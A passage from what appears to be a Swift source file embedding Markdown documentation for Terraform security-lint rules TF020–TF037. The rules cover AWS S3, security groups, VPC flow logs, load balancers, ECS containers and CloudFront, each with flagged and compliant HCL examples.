resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_public_access_block" "assets" {
  bucket                  = aws_s3_bucket.assets.id
  block_public_acls       = true
  block_public_policy     = true
  ignore_public_acls      = true
  restrict_public_buckets = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF020.md", text: ###"""
---
id: TF020
title: S3 bucket declares no default encryption
kind: hcl
severity: note
tags: [security]
security-severity: 2.0
references:
  - "AWS Foundational Security Best Practices S3.4 (retired in 2023 once SSE-S3 became the default): S3 buckets should have server-side encryption enabled"
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/default-encryption-faq.html
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/UsingKMSEncryption.html
equivalents:
  checkov: "CKV_AWS_19, CKV_AWS_145"
  trivy: AWS-0132
---
Reports an `aws_s3_bucket` with neither an inline `server_side_encryption_configuration` nor an `aws_s3_bucket_server_side_encryption_configuration` referring to it. A note: since January 2023 S3 encrypts every new object with SSE-S3, so the data is encrypted; this asks whether the bucket should use SSE-KMS. Like TF019, it needs the whole module and stays silent when another Terraform file sits beside the linted one.

## Why
SSE-S3 protects against lost disks but anyone with `s3:GetObject` reads the data. With SSE-KMS, reading also requires `kms:Decrypt` on the key, so access follows the key policy and every decrypt is logged; `bucket_key_enabled` keeps the KMS request cost low.

## How to fix
Add an `aws_s3_bucket_server_side_encryption_configuration` with `sse_algorithm = "aws:kms"`, `kms_master_key_id` and `bucket_key_enabled = true` — or declare `AES256` explicitly to record that SSE-S3 is the intended choice.

## Example
Reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}
```
Not reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_server_side_encryption_configuration" "assets" {
  bucket = aws_s3_bucket.assets.id
  rule {
    apply_server_side_encryption_by_default {
      sse_algorithm     = "aws:kms"
      kms_master_key_id = aws_kms_key.s3.arn
    }
    bucket_key_enabled = true
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF021.md", text: ###"""
---
id: TF021
title: S3 bucket versioning is off
kind: hcl
severity: warning
tags: [reliability]
references:
  - "AWS Foundational Security Best Practices S3.14: S3 general purpose buckets should have versioning enabled"
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/Versioning.html
equivalents:
  checkov: CKV_AWS_21
  trivy: AWS-0090
---
Reports an `aws_s3_bucket_versioning` with status `Suspended` or `Disabled`, an inline `versioning` block that is not enabled, and (when the whole module is known, as for TF019) an `aws_s3_bucket` with no versioning at all.

## Why
Without versioning an overwrite or a delete — by a bug, a compromised key or ransomware — destroys the object for good. Versioning keeps the previous versions so they can be restored; a lifecycle rule expiring noncurrent versions keeps the cost bounded.

## How to fix
Add an `aws_s3_bucket_versioning` with `status = "Enabled"`, and an `aws_s3_bucket_lifecycle_configuration` rule with `noncurrent_version_expiration`.

## Example
Reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}
```
Not reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket_versioning" "assets" {
  bucket = aws_s3_bucket.assets.id
  versioning_configuration {
    status = "Enabled"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF022.md", text: ###"""
---
id: TF022
title: S3 bucket has no access logging
kind: hcl
severity: note
tags: [security]
security-severity: 2.0
references:
  - "AWS Foundational Security Best Practices S3.9: S3 general purpose buckets should have server access logging enabled"
  - https://docs.aws.amazon.com/AmazonS3/latest/userguide/ServerLogs.html
equivalents:
  checkov: CKV_AWS_18
  trivy: AWS-0089
---
Reports an `aws_s3_bucket` with neither an inline `logging` block nor an `aws_s3_bucket_logging` referring to it, when the whole module is known (as for TF019). Buckets that receive logs — the `target_bucket` of some logging configuration, or with `log` in their resource or bucket name — are skipped, since logging a log bucket only doubles the volume. A note: CloudTrail data events are an alternative.

## Why
Server access logs record every request to the bucket — who read which object, from where — which is what an investigation of a leak needs. They are free to produce; you pay only for the log storage.

## How to fix
Add an `aws_s3_bucket_logging` with `target_bucket` set to a dedicated log bucket (with a retention lifecycle rule), or enable CloudTrail S3 data events for the bucket.

## Example
Reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}
```
Not reported:
```hcl
resource "aws_s3_bucket" "assets" {
  bucket = "example-assets"
}

resource "aws_s3_bucket" "access_logs" {
  bucket = "example-access-logs"
}

resource "aws_s3_bucket_logging" "assets" {
  bucket        = aws_s3_bucket.assets.id
  target_bucket = aws_s3_bucket.access_logs.id
  target_prefix = "assets/"
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF023.md", text: ###"""
---
id: TF023
title: Security group opens SSH or RDP to the internet
kind: hcl
severity: error
tags: [security]
security-severity: 8.5
references:
  - "AWS Foundational Security Best Practices EC2.13: Security groups should not allow ingress from 0.0.0.0/0 or ::/0 to port 22"
  - "AWS Foundational Security Best Practices EC2.14: Security groups should not allow ingress from 0.0.0.0/0 or ::/0 to port 3389"
  - "AWS Foundational Security Best Practices EC2.53: EC2 security groups should not allow ingress from 0.0.0.0/0 to remote server administration ports"
  - "CIS AWS Foundations Benchmark v3.0, 5.2 and 5.3: no security group allows ingress from 0.0.0.0/0 or ::/0 to remote server administration ports"
equivalents:
  checkov: "CKV_AWS_24, CKV_AWS_25"
  trivy: AWS-0107
---
Reports an ingress permission from `0.0.0.0/0` or `::/0` whose port range covers 22 (SSH) or 3389 (RDP): inline `ingress` blocks of `aws_security_group` (static or `dynamic` with a known `for_each`), `aws_security_group_rule` with `type = "ingress"`, and `aws_vpc_security_group_ingress_rule`. A permission on all ports is TF025's finding instead.

## Why
SSH and RDP exposed to the internet are scanned within minutes of coming up and brute-forced continuously; one weak or leaked key or password gives a shell. Administrative access rarely needs to be reachable from everywhere.

## How to fix
Remove the rule and use SSM Session Manager or EC2 Instance Connect Endpoint, or restrict the source to known administrator ranges (a VPN's egress address).

## Example
Reported:
```hcl
resource "aws_security_group" "web" {
  name        = "web"
  description = "Web servers"
  vpc_id      = "vpc-0123456789abcdef0"

  ingress {
    description = "SSH"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
```
Not reported:
```hcl
resource "aws_security_group" "web" {
  name        = "web"
  description = "Web servers"
  vpc_id      = "vpc-0123456789abcdef0"

  ingress {
    description = "SSH from the office VPN"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["203.0.113.10/32"]
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF024.md", text: ###"""
---
id: TF024
title: Security group opens a database port to the internet
kind: hcl
severity: error
tags: [security]
security-severity: 8.5
references:
  - "AWS Foundational Security Best Practices EC2.19: Security groups should not allow unrestricted access to ports with high risk"
  - https://docs.aws.amazon.com/vpc/latest/userguide/vpc-security-group-rules.html
---
Reports an ingress permission from `0.0.0.0/0` or `::/0` whose port range covers a database or cache port: SQL Server 1433, Oracle 1521, etcd 2379, MySQL/MariaDB 3306, PostgreSQL 5432, Redshift 5439, CouchDB 5984, Redis/Valkey 6379, InfluxDB 8086, Cassandra 9042, Elasticsearch/OpenSearch 9200, Memcached 11211, MongoDB 27017. The same rule forms as TF023 are read; all-port permissions are TF025's.

## Why
Databases exposed to the internet are found by scanners within hours and attacked with default credentials, brute force and known exploits; unauthenticated Redis, MongoDB and Elasticsearch instances are a classic source of mass data leaks and ransom notes. Applications reach their database from inside the VPC.

## How to fix
Allow the application's security group as the source (`source_security_group_id`, `referenced_security_group_id`, or `security_groups` in an inline block) instead of a CIDR.

## Example
Reported:
```hcl
resource "aws_security_group" "web" {
  name        = "web"
  description = "Web servers"
  vpc_id      = "vpc-0123456789abcdef0"

  ingress {
    description = "Postgres"
    from_port   = 5432
    to_port     = 5432
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
```
Not reported:
```hcl
resource "aws_security_group" "db" {
  name        = "db"
  description = "PostgreSQL"

  ingress {
    description     = "Postgres from the application"
    from_port       = 5432
    to_port         = 5432
    protocol        = "tcp"
    security_groups = [aws_security_group.app.id]
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF025.md", text: ###"""
---
id: TF025
title: Security group opens all ports to the internet
kind: hcl
severity: error
tags: [security]
security-severity: 9.0
references:
  - "AWS Foundational Security Best Practices EC2.18: Security groups should only allow unrestricted incoming traffic for authorized ports"
  - "AWS Foundational Security Best Practices EC2.19: Security groups should not allow unrestricted access to ports with high risk"
equivalents:
  checkov: CKV_AWS_277
  trivy: AWS-0107
---
Reports an ingress permission from `0.0.0.0/0` or `::/0` on every port: protocol `-1`/`all`, or a TCP/UDP range from 0 (or 1) to 65535. The same rule forms as TF023 are read.

## Why
Every service on the instances behind the group — admin consoles, debug ports, databases, metadata proxies — becomes reachable from the internet, including ones started later by someone who assumed the network was private.

## How to fix
Open only the ports the service listens on (usually 443 on a load balancer), and let backends accept traffic from the load balancer's security group only.

## Example
Reported:
```hcl
resource "aws_security_group" "web" {
  name        = "web"
  description = "Web servers"
  vpc_id      = "vpc-0123456789abcdef0"

  ingress {
    description = "everything"
    from_port   = 0
    to_port     = 0
    protocol    = "-1"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
```
Not reported:
```hcl
resource "aws_security_group" "web" {
  name        = "web"
  description = "Web servers"
  vpc_id      = "vpc-0123456789abcdef0"

  ingress {
    description = "HTTPS"
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF026.md", text: ###"""
---
id: TF026
title: Security group or rule has no description
kind: hcl
severity: note
tags: [maintainability]
references:
  - https://docs.aws.amazon.com/vpc/latest/userguide/security-group-rules.html
  - https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/security_group#description
equivalents:
  checkov: CKV_AWS_23
  trivy: "AWS-0099, AWS-0124"
---
Reports an `aws_security_group` without `description` (AWS then shows "Managed by Terraform"), its inline `ingress`/`egress` blocks without one, and `aws_security_group_rule`, `aws_vpc_security_group_ingress_rule` and `aws_vpc_security_group_egress_rule` without one. Descriptions computed from unknown values are not reported.

## Why
Six months later nobody remembers why port 8443 is open to a /24. A description naming who or what needs the access lets reviewers and incident responders tell a forgotten rule from a needed one, and shows up in the console and in flow-log investigations.

## How to fix
Add `description = "…"` naming the client and the purpose. Changing a group's description replaces the group (rules' descriptions can change in place).

## Example
Reported:
```hcl
resource "aws_security_group" "web" {
  name = "web"

  ingress {
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
```
Not reported:
```hcl
resource "aws_security_group" "web" {
  name        = "web"
  description = "Web servers"
  vpc_id      = "vpc-0123456789abcdef0"

  ingress {
    description = "HTTPS from the internet"
    from_port   = 443
    to_port     = 443
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF027.md", text: ###"""
---
id: TF027
title: Database is placed in subnets that assign public IP addresses
kind: hcl
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "AWS Foundational Security Best Practices EC2.15: Amazon EC2 subnets should not automatically assign public IP addresses"
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_VPC.WorkingWithRDSInstanceinaVPC.html#USER_VPC.Subnets
equivalents:
  checkov: "CKV_AWS_130 (on the subnet)"
  trivy: "AWS-0164 (on the subnet)"
---
Follows a database's subnet group — `db_subnet_group_name` of `aws_db_instance`/`aws_rds_cluster` to an `aws_db_subnet_group`, or `subnet_group_name` of ElastiCache to an `aws_elasticache_subnet_group`, by reference or by literal name — to its `subnet_ids`, and reports when one of those is an `aws_subnet` with `map_public_ip_on_launch = true`, or the `public_subnets` output of a terraform-aws-modules/vpc module called with `map_public_ip_on_launch = true`. The finding points at the database's subnet group argument, with the subnet setting as related location.

## Why
Subnets that hand out public IP addresses are public subnets, routed to an internet gateway. A database placed there is one `publicly_accessible = true` or one permissive security group away from the internet, and its subnet group makes that change a one-line diff. Databases belong in private (or isolated) subnets.

## How to fix
Point the subnet group at private subnets (`aws_subnet.private[*].id`, or `module.vpc.database_subnets`).

## Example
Reported:
```hcl
resource "aws_vpc" "main" {
  cidr_block = "10.0.0.0/16"
}

resource "aws_subnet" "public" {
  count                   = 2
  vpc_id                  = aws_vpc.main.id
  cidr_block              = cidrsubnet(aws_vpc.main.cidr_block, 8, count.index)
  map_public_ip_on_launch = true
}

resource "aws_subnet" "private" {
  count      = 2
  vpc_id     = aws_vpc.main.id
  cidr_block = cidrsubnet(aws_vpc.main.cidr_block, 8, count.index + 10)
}

resource "aws_db_subnet_group" "db" {
  name       = "app-db"
  subnet_ids = aws_subnet.public[*].id
}

resource "aws_db_instance" "main" {
  identifier           = "app"
  engine               = "postgres"
  instance_class       = "db.t4g.small"
  allocated_storage    = 20
  storage_encrypted    = true
  db_subnet_group_name = aws_db_subnet_group.db.name
}
```
Not reported:
```hcl
resource "aws_vpc" "main" {
  cidr_block = "10.0.0.0/16"
}

resource "aws_subnet" "public" {
  count                   = 2
  vpc_id                  = aws_vpc.main.id
  cidr_block              = cidrsubnet(aws_vpc.main.cidr_block, 8, count.index)
  map_public_ip_on_launch = true
}

resource "aws_subnet" "private" {
  count      = 2
  vpc_id     = aws_vpc.main.id
  cidr_block = cidrsubnet(aws_vpc.main.cidr_block, 8, count.index + 10)
}

resource "aws_db_subnet_group" "db" {
  name       = "app-db"
  subnet_ids = aws_subnet.private[*].id
}

resource "aws_db_instance" "main" {
  identifier           = "app"
  engine               = "postgres"
  instance_class       = "db.t4g.small"
  allocated_storage    = 20
  storage_encrypted    = true
  db_subnet_group_name = aws_db_subnet_group.db.name
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF028.md", text: ###"""
---
id: TF028
title: VPC has no flow log
kind: hcl
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "AWS Foundational Security Best Practices EC2.6: VPC flow logging should be enabled in all VPCs"
  - "CIS AWS Foundations Benchmark v3.0, 3.7: Ensure VPC flow logging is enabled in all VPCs"
  - https://docs.aws.amazon.com/vpc/latest/userguide/flow-logs.html
equivalents:
  checkov: CKV2_AWS_11
  trivy: AWS-0178
---
Reports an `aws_vpc` with no `aws_flow_log` whose `vpc_id` refers to it. Like the other absence checks it needs the whole module (no other Terraform file beside the linted one, or the directory pass), and stays silent when some flow log's `vpc_id` cannot be traced.

## Why
Flow logs are the record of which addresses talked to what, accepted or rejected. Without them an investigation cannot tell whether a compromised instance exfiltrated data or who probed the database port. Logging only rejected traffic is cheap.

## How to fix
Add an `aws_flow_log` with `vpc_id = aws_vpc.<name>.id` and `traffic_type = "REJECT"` (or `"ALL"`), delivered to CloudWatch Logs with a retention, or to S3.

## Example
Reported:
```hcl
resource "aws_vpc" "main" {
  cidr_block           = "10.0.0.0/16"
  enable_dns_hostnames = true
}
```
Not reported:
```hcl
resource "aws_vpc" "main" {
  cidr_block           = "10.0.0.0/16"
  enable_dns_hostnames = true
}

resource "aws_flow_log" "main" {
  vpc_id          = aws_vpc.main.id
  traffic_type    = "REJECT"
  log_destination = aws_cloudwatch_log_group.flow.arn
  iam_role_arn    = aws_iam_role.flow.arn
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF029.md", text: ###"""
---
id: TF029
title: HTTP listener does not redirect to HTTPS
kind: hcl
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "AWS Foundational Security Best Practices ELB.1: Application Load Balancer should be configured to redirect all HTTP requests to HTTPS"
  - https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-listeners.html#redirect-actions
equivalents:
  checkov: "CKV_AWS_2, CKV2_AWS_20"
  trivy: AWS-0054
---
Reports an `aws_lb_listener` (or `aws_alb_listener`) with `protocol = "HTTP"` — or no protocol on a listener of a known Application Load Balancer — whose default action is neither a redirect to `HTTPS` nor a fixed response (a fixed response serves no application content, unless listener rules forward some paths, in which case it is reported). Actions whose type or protocol cannot be evaluated are not judged.

## Why
Traffic served over plain HTTP can be read and modified by anyone on the path: session cookies, credentials, injected scripts. The HTTP listener should only exist to send browsers to HTTPS (and HSTS then keeps them there).

## How to fix
Make the HTTP listener's `default_action` a `redirect` with `protocol = "HTTPS"`, `port = "443"`, `status_code = "HTTP_301"`, and serve the application on an HTTPS listener.

## Example
Reported:
```hcl
resource "aws_lb" "web" {
  name                       = "web"
  load_balancer_type         = "application"
  subnets                    = ["subnet-0123456789abcdef0", "subnet-0fedcba9876543210"]
  drop_invalid_header_fields = true
}

resource "aws_lb_listener" "http" {
  load_balancer_arn = aws_lb.web.arn
  port              = 80
  protocol          = "HTTP"

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
```
Not reported:
```hcl
resource "aws_lb" "web" {
  name                       = "web"
  load_balancer_type         = "application"
  subnets                    = ["subnet-0123456789abcdef0", "subnet-0fedcba9876543210"]
  drop_invalid_header_fields = true
}

resource "aws_lb_listener" "http" {
  load_balancer_arn = aws_lb.web.arn
  port              = 80
  protocol          = "HTTP"

  default_action {
    type = "redirect"
    redirect {
      port        = "443"
      protocol    = "HTTPS"
      status_code = "HTTP_301"
    }
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF030.md", text: ###"""
---
id: TF030
title: Load balancer listener uses an outdated TLS policy
kind: hcl
severity: warning
tags: [security]
security-severity: 6.5
references:
  - "AWS Foundational Security Best Practices ELB.17: Application and Network Load Balancers with listeners should use recommended security policies"
  - https://docs.aws.amazon.com/elasticloadbalancing/latest/application/describe-ssl-policies.html
equivalents:
  checkov: CKV_AWS_103
  trivy: AWS-0047
---
Reports an HTTPS or TLS `aws_lb_listener`/`aws_alb_listener` whose `ssl_policy` accepts TLS 1.0 or 1.1 (`ELBSecurityPolicy-2016-08`, `-2015-05`, `-TLS-1-0-*`, `-TLS-1-1-*`, `-FS-2018-06`, `-FS-1-1-*`, `-TLS13-1-0-*`, `-TLS13-1-1-*`), or that sets no `ssl_policy` (the listener then gets `ELBSecurityPolicy-2016-08`). Policies limited to TLS 1.2+ but keeping CBC and SHA-1 suites (the `-Ext-`, `-Ext1-`, `-Ext2-` ones) are a note. This sits between the peers: Checkov accepts every `TLS13` policy, Trivy rejects the TLS13 `-1-0`, `-1-1` and `-Ext` ones.

## Why
TLS 1.0 and 1.1 are deprecated (RFC 8996) and allow downgrade attacks and weak ciphers; PCI DSS and most compliance regimes forbid them. Every current browser and HTTP client speaks TLS 1.2 and 1.3.

## How to fix
Set `ssl_policy = "ELBSecurityPolicy-TLS13-1-2-2021-06"` (TLS 1.2 and 1.3, AWS's recommendation), or `ELBSecurityPolicy-TLS13-1-2-Res-2021-06` for stricter ciphers.

## Example
Reported:
```hcl
resource "aws_lb_listener" "https" {
  load_balancer_arn = aws_lb.web.arn
  port              = 443
  protocol          = "HTTPS"
  certificate_arn   = aws_acm_certificate.web.arn
  ssl_policy        = "ELBSecurityPolicy-2016-08"

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
```
Not reported:
```hcl
resource "aws_lb_listener" "https" {
  load_balancer_arn = aws_lb.web.arn
  port              = 443
  protocol          = "HTTPS"
  certificate_arn   = aws_acm_certificate.web.arn
  ssl_policy        = "ELBSecurityPolicy-TLS13-1-2-2021-06"

  default_action {
    type             = "forward"
    target_group_arn = aws_lb_target_group.web.arn
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF031.md", text: ###"""
---
id: TF031
title: Application Load Balancer keeps invalid header fields
kind: hcl
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "AWS Foundational Security Best Practices ELB.4: Application Load Balancer should be configured to drop invalid http headers"
  - https://docs.aws.amazon.com/elasticloadbalancing/latest/application/application-load-balancers.html#load-balancer-attributes
equivalents:
  checkov: CKV_AWS_131
  trivy: AWS-0052
---
Reports an `aws_lb`/`aws_alb` of type `application` (the default) whose `drop_invalid_header_fields` is not `true`.

## Why
Header names with characters outside the HTTP token set are a vector for request smuggling and header injection against backends that parse them differently from the load balancer. Dropping them costs nothing for well-behaved clients.

## How to fix
Set `drop_invalid_header_fields = true`.

## Example
Reported:
```hcl
resource "aws_lb" "web" {
  name    = "web"
  subnets = ["subnet-0123456789abcdef0", "subnet-0fedcba9876543210"]
}
```
Not reported:
```hcl
resource "aws_lb" "web" {
  name                       = "web"
  load_balancer_type         = "application"
  subnets                    = ["subnet-0123456789abcdef0", "subnet-0fedcba9876543210"]
  drop_invalid_header_fields = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF032.md", text: ###"""
---
id: TF032
title: ECS container runs privileged
kind: hcl
severity: error
tags: [security]
security-severity: 8.5
references:
  - "AWS Foundational Security Best Practices ECS.4: ECS containers should run as non-privileged"
  - https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html
equivalents:
  checkov: CKV_AWS_334
---
Reports a container of an `aws_ecs_task_definition` with `"privileged": true`. `container_definitions` is read from `jsonencode([...])` (the finding points at the key), a JSON string or heredoc (parsed with Foundation's JSONSerialization; the finding points at the attribute), or a local holding either.

## Why
A privileged container has every Linux capability and the host's devices: escaping to the EC2 host is trivial, and from there to every other task on it and the instance role. Fargate rejects privileged containers; on EC2 they are almost never needed.

## How to fix
Remove `privileged` and grant only the capabilities the process needs with `linuxParameters.capabilities.add`.

## Example
Reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      privileged = true
      user                   = "10001:10001"
      readonlyRootFilesystem = true
    },
  ])
}
```
Not reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user                   = "10001:10001"
      readonlyRootFilesystem = true
    },
  ])
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF033.md", text: ###"""
---
id: TF033
title: ECS container is set to run as root
kind: hcl
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "AWS Config rule ecs-task-definition-nonroot-user: ECS task definitions should specify a non-root user"
  - https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html#ECS-Type-ContainerDefinition-user
---
Reports a container whose `user` is `root` or UID `0` (`"0"`, `"0:0"`, `"root:root"`…). A container without `user` runs as its image's `USER`, which the task definition does not show: it is not reported (DF001 checks the Dockerfile's final `USER`), unlike AWS Config's rule which requires `user` everywhere.

## Why
Root in a container is root on the host kernel's view of the container's files and capabilities; combined with a kernel bug, a writable mount or an over-wide capability it becomes root on the host. Images built for production run as an unprivileged user; forcing root undoes that.

## How to fix
Remove `user`, or set a numeric non-root UID/GID that owns what the process writes (for example `"10001:10001"`, the same as the image's `USER`).

## Example
Reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user                   = "root"
      readonlyRootFilesystem = true
    },
  ])
}
```
Not reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user                   = "10001:10001"
      readonlyRootFilesystem = true
    },
  ])
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF034.md", text: ###"""
---
id: TF034
title: ECS container root filesystem is writable
kind: hcl
severity: warning
tags: [security]
security-severity: 4.5
references:
  - "AWS Foundational Security Best Practices ECS.5: ECS containers should be limited to read-only access to root filesystems"
  - https://docs.aws.amazon.com/AmazonECS/latest/APIReference/API_ContainerDefinition.html#ECS-Type-ContainerDefinition-readonlyRootFilesystem
equivalents:
  checkov: CKV_AWS_336
---
Reports a container whose `readonlyRootFilesystem` is `false` or left out (the default is writable). Values that cannot be evaluated are not reported.

## Why
A writable root filesystem lets an attacker who gets code execution drop tools, modify binaries and persist across requests. A read-only root also catches applications that write logs or caches to unexpected places.

## How to fix
Set `"readonlyRootFilesystem": true` and mount volumes (or `tmpfs` on EC2) for the directories the process must write, such as `/tmp`.

## Example
Reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user = "10001:10001"
    },
  ])
}
```
Not reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user                   = "10001:10001"
      readonlyRootFilesystem = true
    },
  ])
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF035.md", text: ###"""
---
id: TF035
title: ECS container gets a secret as a plain environment variable
kind: hcl
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "AWS Foundational Security Best Practices ECS.8: Secrets should not be passed as container environment variables"
  - https://docs.aws.amazon.com/AmazonECS/latest/developerguide/specifying-sensitive-data.html
equivalents:
  trivy: AWS-0036
---
Reports an `environment` entry of a container whose name looks like a secret — it contains PASSWORD, PASSWD, SECRET, TOKEN, API_KEY, APIKEY, PRIVATE_KEY, ACCESS_KEY or CREDENTIAL, and does not end in _ARN, _FILE, _PATH, _URL, _URI, _ENDPOINT, _NAME, _TTL, _LENGTH, _EXPIRY or _HEADER — with a non-empty value, literal or computed.

## Why
`environment` values are stored in clear in the task definition: anyone with `ecs:DescribeTaskDefinition`, the console, CloudTrail and the Terraform state can read them. The `secrets` field instead makes the agent fetch the value from Secrets Manager or Parameter Store at start-up, under the execution role's permissions.

## How to fix
Move the variable to `secrets = [{ name = "DB_PASSWORD", valueFrom = aws_secretsmanager_secret.db.arn }]` and allow the execution role `secretsmanager:GetSecretValue` on it.

## Example
Reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user                   = "10001:10001"
      readonlyRootFilesystem = true
      environment = [
        { name = "DATABASE_PASSWORD", value = var.db_password },
      ]
    },
  ])
}
```
Not reported:
```hcl
resource "aws_ecs_task_definition" "app" {
  family                   = "app"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 512
  memory                   = 1024

  container_definitions = jsonencode([
    {
      name      = "web"
      image     = "registry.example.com/web:1.4.2"
      essential = true
      user                   = "10001:10001"
      readonlyRootFilesystem = true
      secrets = [
        { name = "DATABASE_PASSWORD", valueFrom = aws_secretsmanager_secret.db.arn },
      ]
    },
  ])
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF036.md", text: ###"""
---
id: TF036
title: ECS cluster does not enable Container Insights
kind: hcl
severity: note
tags: [reliability]
references:
  - "AWS Foundational Security Best Practices ECS.12: ECS clusters should use Container Insights"
  - https://docs.aws.amazon.com/AmazonCloudWatch/latest/monitoring/ContainerInsights.html
equivalents:
  checkov: CKV_AWS_65
  trivy: AWS-0034
---
Reports an `aws_ecs_cluster` without a `setting { name = "containerInsights" }` block, or with one whose value is neither `enabled` nor `enhanced`. An account-wide `aws_ecs_account_setting_default` for `containerInsights` counts. A note: Container Insights is billed as custom metrics.

## Why
Without Container Insights, ECS reports only cluster- and service-level CPU and memory averages: no per-task metrics, no restart counts, no way to see which task was throttled or killed for memory before an outage.

## How to fix
Add `setting { name = "containerInsights" value = "enabled" }` (or `"enhanced"` for per-container detail).

## Example
Reported:
```hcl
resource "aws_ecs_cluster" "main" {
  name = "app"
}
```
Not reported:
```hcl
resource "aws_ecs_cluster" "main" {
  name = "app"

  setting {
    name  = "containerInsights"
    value = "enabled"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF037.md", text: ###"""
---
id: TF037
title: CloudFront serves viewers over plain HTTP
kind: hcl
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "AWS Foundational Security Best Practices CloudFront.3: CloudFront distributions should require encryption in transit"
  - https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/using-https-viewers-to-cloudfront.html
equivalents:
  checkov: CKV_AWS_34
  trivy: AWS-0012
---
Reports a `default_cache_behavior` or `ordered_cache_behavior` (static or dynamic) of an `aws_cloudfront_distribution` with `viewer_protocol_policy = "allow-all"`.

## Why
`allow-all` serves pages, cookies and API responses over plain HTTP to anyone who asks, where they can be read and altered on the way. Redirecting to HTTPS costs one round trip once (and none with HSTS).

## How to fix
Use `viewer_protocol_policy = "redirect-to-https"` for sites and `"https-only"` for APIs.

## Example
Reported:
```hcl
resource "aws_cloudfront_distribution" "cdn" {
  enabled = true
  aliases = ["www.example.com"]

  origin {
    domain_name = "origin.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
